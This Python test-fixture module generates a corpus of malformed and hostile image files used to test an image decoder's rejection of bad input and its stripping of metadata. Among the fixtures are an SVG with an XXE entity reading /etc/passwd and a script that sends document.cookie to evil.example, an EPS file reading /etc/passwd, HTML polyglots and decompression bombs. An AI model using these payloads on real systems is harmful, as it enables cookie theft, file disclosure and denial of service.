"""A corpus of broken, odd and malicious image files, generated in memory (nothing binary is committed).

Each :class:`Case` says what a careful decoder must do with it: ``ok`` (decode, and ``check`` the
pixels when given), ``error`` (a clear ImageError), or ``either`` for random damage that may or may
not leave a decodable file. Used by tests/test_hostile_inputs.py (CLI, Python API, every HTTP
endpoint), tests/test_privacy.py (metadata) and the fuzz and soak scripts (seeds, load).
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import numpy as np
from PIL import Image

RED, GREEN, BLUE, WHITE = (220, 30, 30), (30, 200, 40), (30, 40, 210), (255, 255, 255)
# Planted in every kind of metadata; stored copies must not contain it (tests/test_privacy.py).
SECRET = b"SKULENS-SECRET-7f3a"


@dataclass(frozen=True)
class Case:
    name: str
    kind: str
    data: bytes
    suffix: str = ".jpg"
    expect: str = "error"  # "ok" | "error" | "either"
    size: tuple[int, int] | None = None  # decoded (width, height) when ok
    check: Callable[[Image.Image], bool] | None = None

    @property
    def filename(self) -> str:
        return f"{self.name}{self.suffix}"


# --- building blocks -----------------------------------------------------------------------------------


def quadrants(size: tuple[int, int] = (64, 48)) -> Image.Image:
    """Red top-left quadrant, green elsewhere: shows orientation and colour after decoding."""
    w, h = size
    arr = np.zeros((h, w, 3), np.uint8)
    arr[:] = GREEN
    arr[: h // 2, : w // 2] = RED
    return Image.fromarray(arr)


def encode(img: Image.Image, fmt: str, **kw) -> bytes:
    buf = io.BytesIO()
    img.save(buf, fmt, **kw)
    return buf.getvalue()


def near(a, b, tol: int = 40) -> bool:
    return all(abs(int(x) - int(y)) <= tol for x, y in zip(a, b))


def upright(img: Image.Image) -> bool:
    """The quadrant photo the right way up: red at the top left, green at the bottom right."""
    w, h = img.size
    return near(img.getpixel((w // 8, h // 8)), RED) and near(img.getpixel((w - 1 - w // 8, h - 1 - h // 8)), GREEN)


def colour_is(colour) -> Callable[[Image.Image], bool]:
    return lambda img: near(img.getpixel((img.width // 2, img.height // 2)), colour)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header_only(width: int, height: int, bit_depth: int = 1, colour_type: int = 0) -> bytes:
    """A tiny PNG that claims ``width`` x ``height``: a decompression bomb as the decoder first sees it."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + png_chunk(b"IEND", b"")
    )


def png_with_chunks(img: Image.Image, extra: list[tuple[bytes, bytes]]) -> bytes:
    """``img`` as PNG with ``extra`` chunks inserted after IHDR."""
    data = encode(img, "PNG")
    ihdr_end = 8 + 4 + 4 + 13 + 4
    return data[:ihdr_end] + b"".join(png_chunk(k, v) for k, v in extra) + data[ihdr_end:]


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    assert len(payload) <= 65533
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def jpeg_with_segments(jpeg: bytes, segments: list[bytes]) -> bytes:
    """Insert ``segments`` right after SOI."""
    assert jpeg[:2] == b"\xff\xd8"
    return jpeg[:2] + b"".join(segments) + jpeg[2:]


def jpeg_sof_dimensions(jpeg: bytes, width: int, height: int) -> bytes:
    """Rewrite the frame header (SOF0/SOF2) to claim another size: a tiny file with huge dimensions."""
    data = bytearray(jpeg)
    i = 2
    while i < len(data) - 9:
        marker = data[i + 1]
        length = struct.unpack(">H", data[i + 2 : i + 4])[0]
        if marker in (0xC0, 0xC1, 0xC2):
            data[i + 5 : i + 9] = struct.pack(">HH", height, width)
            return bytes(data)
        i += 2 + length
    raise ValueError("no SOF marker")


def exif_bytes(orientation: int | None = None, secret: bool = False) -> bytes:
    exif = Image.Exif()
    if orientation is not None:
        exif[0x0112] = orientation
    if secret:
        exif[0x010F] = "SecretCam"  # Make
        exif[0x0110] = "Model " + SECRET.decode()  # Model
        exif[0xA431] = SECRET.decode()  # BodySerialNumber (Exif IFD in files; fine in IFD0 for the test)
        gps = exif.get_ifd(0x8825)
        gps[1], gps[2] = "N", (52.0, 31.0, 12.5)  # latitude
        gps[3], gps[4] = "E", (13.0, 24.0, 36.0)  # longitude
    return exif.tobytes()


def xmp_packet(payload: bytes = SECRET) -> bytes:
    return (
        b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
        b'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="52,31.2N" exif:UserComment="'
        + payload
        + b'"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    )


def iptc_app13(payload: bytes = SECRET) -> bytes:
    """An APP13 Photoshop IRB holding an IPTC record (2:80 by-line, 2:116 copyright)."""
    record = b"".join(b"\x1c\x02" + bytes([tag]) + struct.pack(">H", len(payload)) + payload for tag in (80, 116))
    irb = b"8BIM" + struct.pack(">H", 0x0404) + b"\x00\x00" + struct.pack(">I", len(record)) + record
    if len(record) % 2:
        irb += b"\x00"
    return jpeg_segment(0xED, b"Photoshop 3.0\x00" + irb)


def icc_profile_with(payload: bytes) -> bytes:
    """A real sRGB profile from Pillow's littlecms, with ``payload`` appended (readers ignore the tail)."""
    from PIL import ImageCms

    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes() + payload


def metadata_rich_jpeg(img: Image.Image | None = None) -> bytes:
    """A JPEG carrying ``SECRET`` in EXIF (with GPS), XMP, IPTC, an ICC profile, a comment and trailing data."""
    img = img or quadrants((96, 72))
    base = encode(
        img,
        "JPEG",
        quality=92,
        exif=exif_bytes(secret=True),
        icc_profile=icc_profile_with(SECRET),
        comment=b"comment " + SECRET,
    )
    xmp = jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + xmp_packet())
    return jpeg_with_segments(base, [xmp, iptc_app13()]) + b"trailing " + SECRET


def metadata_rich_png(img: Image.Image | None = None) -> bytes:
    img = img or quadrants((96, 72))
    return png_with_chunks(
        img,
        [
            (b"tEXt", b"Author\x00" + SECRET),
            (b"zTXt", b"Comment\x00\x00" + zlib.compress(SECRET)),
            (b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + xmp_packet()),
            (b"eXIf", exif_bytes(secret=True).removeprefix(b"Exif\x00\x00")),  # PNG keeps the bare TIFF structure
        ],
    )


def truncate(data: bytes, fraction: float) -> bytes:
    return data[: max(1, int(len(data) * fraction))]


def flip_bytes(data: bytes, seed: int, count: int = 24, skip_header: int = 32) -> bytes:
    rng = np.random.default_rng(seed)
    arr = bytearray(data)
    for pos in rng.integers(skip_header, len(arr), count):
        arr[int(pos)] ^= int(rng.integers(1, 256))
    return bytes(arr)


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, content in members.items():
            z.writestr(name, content)
    return buf.getvalue()


def noise_photo(size=(160, 120), seed: int = 0) -> Image.Image:
    return Image.fromarray(np.random.default_rng(seed).integers(0, 256, (size[1], size[0], 3), dtype=np.uint8))


# --- the corpus ----------------------------------------------------------------------------------------

# What each EXIF orientation does to an upright photo, so storing its inverse reads back upright.
_ORIENT_INVERSE = {
    1: None,
    2: Image.Transpose.FLIP_LEFT_RIGHT,
    3: Image.Transpose.ROTATE_180,
    4: Image.Transpose.FLIP_TOP_BOTTOM,
    5: Image.Transpose.TRANSPOSE,
    6: Image.Transpose.ROTATE_90,
    7: Image.Transpose.TRANSVERSE,
    8: Image.Transpose.ROTATE_270,
}


def _valid() -> list[Case]:
    q = quadrants()
    out = [
        Case("plain-jpeg", "valid", encode(q, "JPEG", quality=95), ".jpg", "ok", (64, 48), upright),
        Case(
            "progressive-jpeg",
            "valid",
            encode(q, "JPEG", quality=95, progressive=True),
            ".jpg",
            "ok",
            (64, 48),
            upright,
        ),
        Case("plain-png", "valid", encode(q, "PNG"), ".png", "ok", (64, 48), upright),
        Case("lossy-webp", "valid", encode(q, "WEBP", quality=95), ".webp", "ok", (64, 48), upright),
        Case("lossless-webp", "valid", encode(q, "WEBP", lossless=True), ".webp", "ok", (64, 48), upright),
        Case("plain-gif", "valid", encode(q, "GIF"), ".gif", "ok", (64, 48), upright),
        Case("plain-bmp", "valid", encode(q, "BMP"), ".bmp", "ok", (64, 48), upright),
        Case("plain-tiff", "valid", encode(q, "TIFF"), ".tif", "ok", (64, 48), upright),
        Case("lzw-tiff", "valid", encode(q, "TIFF", compression="tiff_lzw"), ".tif", "ok", (64, 48), upright),
        Case(
            "one-pixel", "valid", encode(Image.new("RGB", (1, 1), BLUE), "PNG"), ".png", "ok", (1, 1), colour_is(BLUE)
        ),
        Case(
            "wide-but-allowed",
            "valid",
            encode(Image.new("RGB", (400, 10), RED), "PNG"),
            ".png",
            "ok",
            (400, 10),
            colour_is(RED),
        ),
        Case(
            "large-1bit-png",
            "valid",
            encode(Image.new("1", (4000, 3000), 1), "PNG"),
            ".png",
            "ok",
            (4000, 3000),
            colour_is(WHITE),
        ),
        Case("mislabelled-png-as-jpg", "valid", encode(q, "PNG"), ".jpg", "ok", (64, 48), upright),
    ]
    return out


def _odd_modes() -> list[Case]:
    q = quadrants()
    gray16 = Image.fromarray((np.linspace(0, 65535, 64 * 48).reshape(48, 64)).astype(np.uint16))
    rgba = Image.new("RGBA", (40, 30), (255, 0, 0, 0))
    pal = Image.new("P", (40, 30), 0)
    pal.putpalette(list(BLUE) + [0, 0, 0] * 255)
    spread = lambda img: np.asarray(img).min() < 30 and np.asarray(img).max() > 225  # noqa: E731 - 16 bits rescaled, not clipped
    return [
        Case("cmyk-jpeg", "odd mode", encode(q.convert("CMYK"), "JPEG", quality=95), ".jpg", "ok", (64, 48), upright),
        Case("cmyk-tiff", "odd mode", encode(q.convert("CMYK"), "TIFF"), ".tif", "ok", (64, 48), upright),
        Case("gray-jpeg", "odd mode", encode(q.convert("L"), "JPEG"), ".jpg", "ok", (64, 48)),
        Case("16bit-png", "odd mode", encode(gray16, "PNG"), ".png", "ok", (64, 48), spread),
        Case("16bit-tiff", "odd mode", encode(gray16, "TIFF"), ".tif", "ok", (64, 48), spread),
        Case(
            "float-tiff",
            "odd mode",
            encode(Image.fromarray(np.linspace(-1, 1, 64 * 48, dtype=np.float32).reshape(48, 64)), "TIFF"),
            ".tif",
            "ok",
            (64, 48),
            spread,
        ),
        Case("rgba-transparent-png", "odd mode", encode(rgba, "PNG"), ".png", "ok", (40, 30), colour_is(WHITE)),
        Case("la-png", "odd mode", encode(q.convert("LA"), "PNG"), ".png", "ok", (64, 48)),
        Case(
            "palette-transparency-png",
            "odd mode",
            encode(pal, "PNG", transparency=1),
            ".png",
            "ok",
            (40, 30),
            colour_is(BLUE),
        ),
        Case(
            "palette-transparent-gif",
            "odd mode",
            encode(pal, "GIF", transparency=0),
            ".gif",
            "ok",
            (40, 30),
            colour_is(WHITE),
        ),
        Case("1bit-png", "odd mode", encode(q.convert("1"), "PNG"), ".png", "ok", (64, 48)),
        Case(
            "rgba-webp", "odd mode", encode(q.convert("RGBA"), "WEBP", lossless=True), ".webp", "ok", (64, 48), upright
        ),
    ]


def _animated() -> list[Case]:
    frames = [Image.new("RGB", (40, 30), c) for c in (RED, GREEN, BLUE)]
    first_is_red = colour_is(RED)

    def anim(fmt: str, **kw) -> bytes:
        return encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100, loop=0, **kw)

    return [
        Case("animated-gif", "animated", anim("GIF"), ".gif", "ok", (40, 30), first_is_red),
        Case("animated-webp", "animated", anim("WEBP", lossless=True), ".webp", "ok", (40, 30), first_is_red),
        Case("apng", "animated", anim("PNG"), ".png", "ok", (40, 30), first_is_red),
        Case(
            "many-frame-gif",
            "animated",
            encode(frames[0], "GIF", save_all=True, append_images=[frames[i % 3] for i in range(1, 400)], duration=10),
            ".gif",
            "ok",
            (40, 30),
            first_is_red,
        ),
    ]


def _exif() -> list[Case]:
    q = quadrants()
    cases = []
    for orientation, inverse in _ORIENT_INVERSE.items():
        stored = q.transpose(inverse) if inverse is not None else q
        cases.append(
            Case(
                f"exif-orientation-{orientation}",
                "EXIF rotation",
                encode(stored, "JPEG", quality=95, exif=exif_bytes(orientation)),
                ".jpg",
                "ok",
                (64, 48),
                upright,
            )
        )
    base = encode(q, "JPEG", quality=95)
    cases += [
        Case(
            "exif-orientation-9",
            "EXIF rotation",
            encode(q, "JPEG", quality=95, exif=exif_bytes(9)),
            ".jpg",
            "ok",
            (64, 48),
            upright,
        ),
        Case(
            "exif-garbage",
            "EXIF rotation",
            jpeg_with_segments(
                base,
                [
                    jpeg_segment(
                        0xE1, b"Exif\x00\x00" + bytes(np.random.default_rng(3).integers(0, 256, 500, dtype=np.uint8))
                    )
                ],
            ),
            ".jpg",
            "ok",
            (64, 48),
            upright,
        ),
        Case(
            "exif-ifd-loop",
            "EXIF rotation",
            jpeg_with_segments(
                base,
                [
                    jpeg_segment(
                        0xE1,
                        b"Exif\x00\x00"
                        + b"II*\x00\x08\x00\x00\x00"
                        + b"\x01\x00"
                        + struct.pack("<HHII", 0x8769, 4, 1, 8)
                        + struct.pack("<I", 8),
                    )
                ],
            ),
            ".jpg",
            "ok",
            (64, 48),
            upright,
        ),
    ]
    return cases


def _metadata() -> list[Case]:
    q = quadrants()
    base = encode(q, "JPEG", quality=95)
    big = bytes(np.random.default_rng(5).integers(0, 256, 65000, dtype=np.uint8))
    return [
        Case("metadata-rich-jpeg", "metadata", metadata_rich_jpeg(q), ".jpg", "ok", (64, 48), upright),
        Case("metadata-rich-png", "metadata", metadata_rich_png(q), ".png", "ok", (64, 48), upright),
        Case(
            "max-size-exif",
            "oversized metadata",
            jpeg_with_segments(base, [jpeg_segment(0xE1, b"Exif\x00\x00" + big[:65520])]),
            ".jpg",
            "ok",
            (64, 48),
            upright,
        ),
        Case(
            "100-app-segments",
            "oversized metadata",
            jpeg_with_segments(base, [jpeg_segment(0xE0 + (i % 16), big) for i in range(100)]),
            ".jpg",
            "ok",
            (64, 48),
            upright,
        ),
        Case(
            "huge-comment",
            "oversized metadata",
            jpeg_with_segments(base, [jpeg_segment(0xFE, big)] * 20),
            ".jpg",
            "ok",
            (64, 48),
            upright,
        ),
        Case(
            "split-icc-2mb",
            "oversized metadata",
            encode(q, "JPEG", icc_profile=icc_profile_with(big * 30)),
            ".jpg",
            "ok",
            (64, 48),
            upright,
        ),
        Case(
            "png-text-flood",
            "oversized metadata",
            png_with_chunks(q, [(b"tEXt", b"k%d\x00" % i + big[:1000]) for i in range(2000)]),
            ".png",
            "ok",
            (64, 48),
            upright,
        ),
        Case(
            "png-ztxt-bomb",
            "oversized metadata",
            png_with_chunks(q, [(b"zTXt", b"bomb\x00\x00" + zlib.compress(bytes(20_000_000), 9))]),
            ".png",
        ),
        Case(
            "png-iccp-bomb",
            "oversized metadata",
            png_with_chunks(q, [(b"iCCP", b"icc\x00\x00" + zlib.compress(bytes(10_000_000), 9))]),
            ".png",
        ),
    ]


def _truncated() -> list[Case]:
    photo = noise_photo()
    encoded = {
        "jpeg": (encode(photo, "JPEG", quality=90), ".jpg"),
        "png": (encode(photo, "PNG"), ".png"),
        "webp": (encode(photo, "WEBP", quality=90), ".webp"),
        "gif": (encode(photo, "GIF"), ".gif"),
        "tiff": (encode(photo, "TIFF"), ".tif"),
        "bmp": (encode(photo, "BMP"), ".bmp"),
        "progressive-jpeg": (encode(photo, "JPEG", progressive=True), ".jpg"),
    }
    cases = []
    for name, (data, suffix) in encoded.items():
        for fraction in (0.1, 0.5, 0.95):
            cases.append(Case(f"truncated-{name}-{int(fraction * 100)}", "truncated", truncate(data, fraction), suffix))
    cases.append(Case("jpeg-soi-only", "truncated", b"\xff\xd8", ".jpg"))
    cases.append(Case("png-signature-only", "truncated", b"\x89PNG\r\n\x1a\n", ".png"))
    cases.append(Case("gif-header-only", "truncated", b"GIF89a\x10\x00\x10\x00\x00\x00\x00", ".gif"))
    return cases


def _corrupted() -> list[Case]:
    photo = noise_photo(seed=1)
    formats = {
        "jpeg": (encode(photo, "JPEG"), ".jpg"),
        "png": (encode(photo, "PNG"), ".png"),
        "webp": (encode(photo, "WEBP"), ".webp"),
        "gif": (encode(photo, "GIF"), ".gif"),
        "tiff": (encode(photo, "TIFF", compression="tiff_lzw"), ".tif"),
    }
    cases = [
        Case(f"bitflips-{name}-{seed}", "corrupted", flip_bytes(data, seed), suffix, "either")
        for name, (data, suffix) in formats.items()
        for seed in range(4)
    ]
    png = encode(photo, "PNG")
    bad_crc = bytearray(png)
    bad_crc[29] ^= 0xFF  # inside IHDR's CRC
    jpeg = encode(photo, "JPEG")
    cases += [
        Case("png-bad-crc", "corrupted", bytes(bad_crc), ".png"),
        Case("png-no-idat", "corrupted", png[:33] + png_chunk(b"IEND", b""), ".png"),
        Case(
            "jpeg-zeroed-huffman", "corrupted", jpeg.replace(b"\xff\xc4", b"\xff\xc4\x00\x03\x00", 1), ".jpg", "either"
        ),
        Case("jpeg-zero-size-sof", "corrupted", jpeg_sof_dimensions(jpeg, 0, 0), ".jpg"),
        Case(
            "gif-bad-lzw-size",
            "corrupted",
            encode(photo, "GIF").replace(b"\x2c\x00\x00\x00\x00", b"\x2c\x00\x00\x00\x00", 1)[:-20] + b"\x0f" * 20,
            ".gif",
            "either",
        ),
        Case(
            "bmp-bogus-offset",
            "corrupted",
            encode(photo, "BMP")[:10] + struct.pack("<I", 0xFFFFFF00) + encode(photo, "BMP")[14:],
            ".bmp",
        ),
        Case("tiff-strip-offset-past-end", "corrupted", _tiff_bad_strip(), ".tif"),
        Case("tiff-ifd-cycle", "corrupted", _tiff_ifd_cycle(), ".tif", "either"),
    ]
    return cases


def _tiff_bad_strip() -> bytes:
    entries = [
        (256, 3, 1, 64),
        (257, 3, 1, 48),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 0x7FFFFFF0),
        (277, 3, 1, 1),
        (278, 3, 1, 48),
        (279, 4, 1, 64 * 48),
    ]
    ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries) + struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", 8) + ifd


def _tiff_ifd_cycle() -> bytes:
    entries = [
        (256, 3, 1, 4),
        (257, 3, 1, 4),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 8 + 2 + 9 * 12 + 4),
        (277, 3, 1, 1),
        (278, 3, 1, 4),
        (279, 4, 1, 16),
    ]
    ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries) + struct.pack("<I", 8)
    return b"II*\x00" + struct.pack("<I", 8) + ifd + b"\x80" * 16  # next IFD points back at the first


def _not_images() -> list[Case]:
    jpeg = encode(quadrants(), "JPEG")
    svg = (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">'
        b'<script>fetch("http://evil.example/?"+document.cookie)</script><text>&xxe;</text></svg>'
    )
    eps = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(/etc/passwd) (r) file\nshowpage\n%%EOF\n"
    return [
        Case("zero-bytes", "not an image", b"", ".jpg"),
        Case("one-byte", "not an image", b"\xff", ".jpg"),
        Case("text-named-jpg", "not an image", b"just some notes, not a photo\n" * 10, ".jpg"),
        Case(
            "html-named-jpg",
            "not an image",
            b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
            ".jpg",
        ),
        Case("svg-named-png", "not an image", svg, ".png"),
        Case("svg-named-svg", "not an image", svg, ".svg"),
        Case("zip-named-jpg", "not an image", zip_bytes({"photo.jpg": jpeg}), ".jpg"),
        Case("pdf-named-jpg", "not an image", b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", ".jpg"),
        Case("eps-named-jpg", "not an image", eps, ".jpg"),
        Case("elf-named-png", "not an image", b"\x7fELF\x02\x01\x01" + b"\0" * 200, ".png"),
        Case("json-named-jpg", "not an image", b'{"image": "data:image/jpeg;base64,/9j/"}', ".jpg"),
        Case(
            "random-bytes",
            "not an image",
            bytes(np.random.default_rng(9).integers(0, 256, 4096, dtype=np.uint8)),
            ".jpg",
        ),
        Case("all-0xff", "not an image", b"\xff" * 4096, ".jpg"),
        Case("ppm-disallowed", "not an image", encode(quadrants(), "PPM"), ".jpg"),
        Case("ico-disallowed", "not an image", encode(quadrants(), "ICO"), ".jpg"),
        Case("tga-disallowed", "not an image", encode(quadrants(), "TGA"), ".jpg"),
        Case("pcx-disallowed", "not an image", encode(quadrants(), "PCX"), ".jpg"),
        Case(
            "psd-header",
            "not an image",
            b"8BPS\x00\x01" + b"\x00" * 6 + struct.pack(">HIIHH", 3, 48, 64, 8, 3) + b"\0" * 64,
            ".jpg",
        ),
    ]


def _bombs() -> list[Case]:
    jpeg = encode(quadrants(), "JPEG")
    gif = bytearray(encode(Image.new("P", (4, 4)), "GIF"))
    gif[6:10] = struct.pack("<HH", 65535, 65535)  # logical screen
    webp_vp8l = bytearray(encode(Image.new("RGB", (4, 4)), "WEBP", lossless=True))
    # VP8L header: 14 bits width-1, 14 bits height-1 after the 0x2f signature byte (offset 21).
    bits = (16383) | (16383 << 14)
    webp_vp8l[21:25] = struct.pack("<I", bits | (struct.unpack("<I", bytes(webp_vp8l[21:25]))[0] & 0xF0000000))
    return [
        Case("png-claims-100k-square", "pixel bomb", png_header_only(100_000, 100_000), ".png"),
        Case("png-1bit-12k-square", "pixel bomb", encode(Image.new("1", (12_000, 12_000)), "PNG"), ".png"),
        Case("png-rgba16-claims-20k", "pixel bomb", png_header_only(20_000, 20_000, 16, 6), ".png"),
        Case("jpeg-claims-65500-square", "huge dimensions", jpeg_sof_dimensions(jpeg, 65500, 65500), ".jpg"),
        Case("gif-screen-65535-square", "huge dimensions", bytes(gif), ".gif"),
        Case("webp-claims-16k-square", "huge dimensions", bytes(webp_vp8l), ".webp"),
        Case("tiff-claims-100k-square", "huge dimensions", _tiff_huge(), ".tif"),
        Case(
            "bmp-claims-30k-square",
            "huge dimensions",
            encode(Image.new("RGB", (2, 2)), "BMP")[:18]
            + struct.pack("<ii", 30000, 30000)
            + encode(Image.new("RGB", (2, 2)), "BMP")[26:],
            ".bmp",
        ),
        Case(
            "png-strip-1x20000",
            "huge dimensions",
            encode(Image.new("L", (1, 20000), 128), "PNG", optimize=True),
            ".png",
        ),
        Case(
            "png-strip-20000x2",
            "huge dimensions",
            encode(Image.new("L", (20000, 2), 128), "PNG", optimize=True),
            ".png",
        ),
    ]


def _tiff_huge() -> bytes:
    entries = [
        (256, 4, 1, 100_000),
        (257, 4, 1, 100_000),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 200),
        (277, 3, 1, 1),
        (278, 4, 1, 100_000),
        (279, 4, 1, 10**10 % 2**32),
    ]
    ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries) + struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", 8) + ifd + b"\0" * 100


def _polyglots() -> list[Case]:
    q = quadrants()
    jpeg = encode(q, "JPEG", quality=95)
    gif = encode(q, "GIF")
    html = b"<html><body><script>alert(document.cookie)</script></body></html>"
    return [
        Case("jpeg-plus-zip", "polyglot", jpeg + zip_bytes({"evil.html": html}), ".jpg", "ok", (64, 48), upright),
        Case(
            "gifar",
            "polyglot",
            gif + zip_bytes({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n"}),
            ".gif",
            "ok",
            (64, 48),
            upright,
        ),
        Case(
            "jpeg-html-comment",
            "polyglot",
            jpeg_with_segments(jpeg, [jpeg_segment(0xFE, html)]),
            ".jpg",
            "ok",
            (64, 48),
            upright,
        ),
        Case(
            "png-html-text",
            "polyglot",
            png_with_chunks(q, [(b"tEXt", b"html\x00" + html)]),
            ".png",
            "ok",
            (64, 48),
            upright,
        ),
        Case(
            "jpeg-then-pdf", "polyglot", jpeg + b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF", ".jpg", "ok", (64, 48), upright
        ),
        Case("html-behind-jpeg-magic", "polyglot", b"\xff\xd8\xff\xe0" + html, ".jpg"),
        Case("svg-behind-png-magic", "polyglot", b"\x89PNG\r\n\x1a\n" + b"<svg onload='alert(1)'/>", ".png"),
        Case("zip-then-jpeg", "polyglot", zip_bytes({"a.txt": b"x"}) + jpeg, ".jpg"),
    ]


@functools.lru_cache(maxsize=1)
def build_corpus() -> tuple[Case, ...]:
    """Deterministic (seeded); built once per process (about a second)."""
    cases = [
        *_valid(),
        *_odd_modes(),
        *_animated(),
        *_exif(),
        *_metadata(),
        *_truncated(),
        *_corrupted(),
        *_not_images(),
        *_bombs(),
        *_polyglots(),
    ]
    names = [c.name for c in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return tuple(cases)


def kinds(cases) -> dict[str, int]:
    out: dict[str, int] = {}
    for case in cases:
        out[case.kind] = out.get(case.kind, 0) + 1
    return out
